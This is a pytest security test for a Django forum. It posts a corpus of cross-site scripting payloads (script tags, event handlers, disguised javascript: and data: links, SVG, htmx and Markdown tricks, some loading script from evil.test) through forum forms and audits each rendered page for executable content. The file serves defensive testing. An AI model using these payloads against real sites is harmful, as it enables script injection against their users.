"""Hostile input stays inert: each entry of a corpus of script tags, event handlers, javascript:, data: and
vbscript: links, SVG, style, frames, broken HTML and Markdown link tricks is posted, through the pages, as a
thread's title, body and tags, a reply, an edit, a report's reason and a hiding reason (and the replier's
display name is hostile too). Every page that shows them is then parsed (html.parser) and audited: no
executable element, no event handler, no dangerous URL, and only the sanitiser's tags inside rendered
Markdown.
"""

from html.parser import HTMLParser

import pytest
from django.templatetags.static import static
from django.urls import reverse

from communities.models import Post, PostReport, Thread
from core.markdown import ALLOWED_TAGS
from tests.communities.helpers import community, person_as

pytestmark = pytest.mark.django_db

HTMX = {"HX-Request": "true"}
B64_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="  # <script>alert(1)</script>

CORPUS = [
    # Script elements, whole and broken.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script/xss src=//evil.test/x.js></script>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    # Event handlers.
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)",
    '<img src="javascript:alert(1)">',
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">hover</div>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<x onclick=alert(1)>click",
    # Links with dangerous schemes, disguised.
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="&#106;avascript:alert(1)">click</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;script:alert(1)">click</a>',
    '<a href="java\tscript:alert(1)">click</a>',
    '<a href=" \x01javascript:alert(1)">click</a>',
    '<a href="javascript&colon;alert(1)">click</a>',
    f'<a href="data:text/html;base64,{B64_SCRIPT}">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    '<a href="javascript:alert(1)"',
    # SVG, MathML, style, frames, objects.
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel=stylesheet href="javascript:alert(1)">',
    # htmx attributes: a swap or a request the author did not mean.
    '<a href="#" hx-get="/accounts/logout/" hx-trigger="load">x</a>',
    "<div hx-on:click=\"alert(1)\" hx-vals='js:{a:alert(1)}'>x</div>",
    # Breaking out of the page's own markup.
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<div>" * 40 + "<script>alert(1)</script>",
    # Markdown links and images.
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](jav&#x09;ascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](javascript:alert%281%29)",
    f"[x](data:text/html;base64,{B64_SCRIPT})",
    "[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x](vbscript:msgbox(1))",
    "![x](javascript:alert(1))",
    '![x](https://evil.test/x.png" onerror="alert(1))',
    "<javascript:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "[x][ref]\n\n[ref]: data:text/html,<script>alert(1)</script>",
    '[x](https://example.com "title\\" onmouseover=\\"alert(1)")',
    "[x](https://example.com 'a\" onclick=\"alert(1)')",
    "[x](https://example.com) onclick=alert(1)",
    "[<img src=x onerror=alert(1)>](https://example.com)",
    '[x](https://example.com"><script>alert(1)</script>)',
    # Markdown blocks around HTML.
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "> <script>alert(1)</script>",
    "- [x](javascript:alert(1))\n- <svg onload=alert(1)>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "** <script>alert(1)</script> **",
    # Mentions and entities.
    "@<script>alert(1)</script>",
    "@handle<img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "＜script＞alert(1)＜/script＞",
]
HOSTILE_NAME = "<img src=x onerror=alert(1)>\"'"


# --- The audit ---------------------------------------------------------------------------------------------
OUR_SCRIPTS = {static("js/app.mjs"), static("dist/htmx.min.js")}
# The only SVGs the pages draw: the pagination arrows and the header's notifications bell (paths only).
OUR_ICONS = {"govuk-pagination__icon", "khub-bell__icon"}
NEVER = {"style", "iframe", "object", "embed", "frame", "frameset", "applet", "base", "math", "template"}
VOID = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source", "track", "wbr"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background", "cite"}
HTMX_REQUESTS = {"hx-get", "hx-post", "hx-put", "hx-patch", "hx-delete"}
HTMX_EVAL = {"hx-vals", "hx-vars", "hx-headers", "hx-on", "data-hx-vals", "data-hx-headers"}
PROSE_ATTRIBUTES = {"href", "title", "rel", "align"}  # core.markdown's allowlist, and nh3's rel
DANGEROUS_SCHEMES = ("javascript:", "data:", "vbscript:")
OUR_META = {"viewport", "theme-color", "htmx-config"}


def _as_browser_reads_it(url: str) -> str:
    """A URL attribute as a browser resolves its scheme: the parser has unescaped entities once; browsers
    also drop leading spaces and control characters and any tab or newline inside."""
    return "".join(ch for ch in url if ch > " " and not 0x7F <= ord(ch) <= 0x9F).lower()


class _Audit(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.open: list[tuple[str, bool, bool]] = []  # (tag, is rendered Markdown, is our icon svg)
        self.scripts: list[str] = []
        self.in_script = False

    def _inside(self, index: int) -> bool:
        return any(entry[index] for entry in self.open)

    def handle_starttag(self, tag, attrs):
        self._audit(tag, attrs)
        if tag == "script":
            self.in_script = True
        if tag not in VOID:
            classes = (dict(attrs).get("class") or "").split()
            icon = tag == "svg" and bool(OUR_ICONS & set(classes))
            self.open.append((tag, "khub-prose" in classes, icon))

    def handle_startendtag(self, tag, attrs):
        self._audit(tag, attrs)

    def handle_endtag(self, tag):
        if tag == "script":
            self.in_script = False
        for at in range(len(self.open) - 1, -1, -1):
            if self.open[at][0] == tag:
                del self.open[at:]
                break

    def handle_data(self, data):
        if self.in_script and data.strip():
            self.problems.append(f"inline script: {data[:80]!r}")

    def _audit(self, tag, attrs):  # one rule per kind of hole, read top to bottom
        values = dict(attrs)
        where = f"<{tag} {attrs!r}>"
        if tag in NEVER:
            self.problems.append(f"forbidden element {where}")
        if tag == "script":
            self.scripts.append(values.get("src") or "")
            if values.get("src") not in OUR_SCRIPTS:
                self.problems.append(f"script not ours {where}")
        if tag == "svg" and not OUR_ICONS & set((values.get("class") or "").split()):
            self.problems.append(f"svg not ours {where}")
        if self._inside(2) and tag != "path":
            self.problems.append(f"inside our icon {where}")
        if tag == "meta" and ("http-equiv" in values or values.get("name", "") not in OUR_META | {""}):
            self.problems.append(f"meta {where}")
        if tag == "link" and not (values.get("href") or "").startswith("/static/"):
            self.problems.append(f"link {where}")
        if tag == "img" and not (values.get("src") or "").startswith("/"):
            self.problems.append(f"img {where}")
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "srcdoc", "formaction"):
                self.problems.append(f"attribute {name} in {where}")
            if name in HTMX_EVAL or name.startswith(("hx-on", "data-hx-on")):
                self.problems.append(f"htmx attribute {name} in {where}")
            if name in HTMX_REQUESTS and not (value or "").startswith("/"):
                self.problems.append(f"htmx request {where}")
            if name in URL_ATTRIBUTES and _as_browser_reads_it(value or "").startswith(DANGEROUS_SCHEMES):
                self.problems.append(f"dangerous URL in {where}")
        if self._inside(1):  # rendered Markdown: only what the sanitiser allows
            if tag not in ALLOWED_TAGS:
                self.problems.append(f"tag outside the allowlist {where}")
            if set(values) - PROSE_ATTRIBUTES:
                self.problems.append(f"attribute outside the allowlist {where}")
            if any(name.startswith(("hx-", "data-")) for name in values):
                self.problems.append(f"htmx or data attribute in prose {where}")


def assert_inert(response, *, partial: bool = False) -> None:
    assert response.status_code == 200, response.status_code
    audit = _Audit()
    audit.feed(response.text)
    audit.close()
    assert audit.problems == [], audit.problems
    expected = set() if partial else OUR_SCRIPTS
    assert set(audit.scripts) == expected
    assert len(audit.scripts) == len(expected)


# --- Posting the corpus through the pages, then reading every page that shows it --------------------------
def _url(name: str, *args) -> str:
    return reverse(f"communities:{name}", args=args)


@pytest.mark.parametrize("payload", CORPUS, ids=[f"input-{n:02}" for n in range(len(CORPUS))])
def test_hostile_input_stays_inert_on_every_page_that_shows_it(client, payload):
    place = community("open")
    slug = place.slug
    owner = place.created_by
    author = person_as("member", place, display_name=HOSTILE_NAME)
    reporter = person_as("member", place)

    client.force_login(author)
    tags = payload[:50].replace(",", " ")
    started = {"title": payload[:200], "kind": "question", "body": payload, "tags": tags}
    response = client.post(_url("thread-create", slug), started)
    assert response.status_code == 302, response.text[:500]
    thread = Thread.objects.get()
    assert client.post(_url("reply", slug, thread.pk), {"body": payload, "parent": ""}).status_code == 302
    reply = Post.objects.get(depth=1)
    inline = client.post(_url("reply", slug, thread.pk), {"body": payload, "parent": reply.pk}, headers=HTMX)
    assert_inert(inline, partial=True)
    nested = Post.objects.get(depth=2)
    edited = f"{payload}\n\nedited: {payload}"
    assert client.post(_url("post-edit", slug, thread.pk, reply.pk), {"body": edited}).status_code == 302
    assert Post.objects.get(pk=reply.pk).revisions.get().body == payload.strip()
    helpful = client.post(_url("post-helpful", slug, thread.pk, reply.pk), headers=HTMX)  # own post: refused
    assert_inert(helpful, partial=True)
    for name in ("post-edit", "post-history"):
        assert_inert(client.get(_url(name, slug, thread.pk, reply.pk)))

    client.force_login(reporter)
    assert_inert(client.get(_url("post-report", slug, thread.pk, reply.pk)))
    reported = client.post(_url("post-report", slug, thread.pk, reply.pk), {"reason": payload[:1000]})
    assert reported.status_code == 302
    assert PostReport.objects.get().reason == payload[:1000].strip()
    reply_form = _url("reply", slug, thread.pk) + f"?parent={nested.pk}"
    assert_inert(client.get(reply_form))
    assert_inert(client.get(reply_form, headers=HTMX), partial=True)
    assert_inert(client.post(_url("post-helpful", slug, thread.pk, reply.pk), headers=HTMX), partial=True)

    client.force_login(owner)
    hide = _url("post-hide", slug, thread.pk, nested.pk)
    assert_inert(client.get(hide))
    assert client.post(hide, {"reason": payload[:2000]}).status_code == 302
    for url in (
        _url("thread", slug, thread.pk),
        _url("threads", slug),
        _url("threads", slug) + "?show=unanswered",
        _url("manage-reports", slug),
        _url("manage-log", slug),
        _url("detail", slug),
        _url("post-history", slug, thread.pk, reply.pk),
        _url("post-unhide", slug, thread.pk, nested.pk),
        _url("thread-move", slug, thread.pk),
        reverse("profiles:notifications"),
    ):
        assert_inert(client.get(url))

    for reader in (author, reporter):  # the author sees their hidden post's text; a member, the notice
        client.force_login(reader)
        assert_inert(client.get(_url("thread", slug, thread.pk)))
        assert_inert(client.get(reverse("profiles:notifications")))


def test_the_corpus_is_large_and_the_audit_catches_what_it_should():
    assert len(CORPUS) >= 50
    for bad in (
        '<a href=" JaVa&#x09;Script:alert(1)">x</a>',
        '<a href="data:text/html,x">x</a>',
        "<script>alert(1)</script>",
        '<script src="https://evil.test/x.js"></script>',
        "<svg onload=alert(1)></svg>",
        "<img src=x onerror=alert(1)>",
        '<div class="khub-prose"><p class="x">x</p></div>',
        '<div class="khub-prose"><img src="/x.png"></div>',
        '<div hx-on:click="alert(1)"></div>',
        "<style>x{}</style>",
    ):
        audit = _Audit()
        audit.feed(bad)
        assert audit.problems, bad
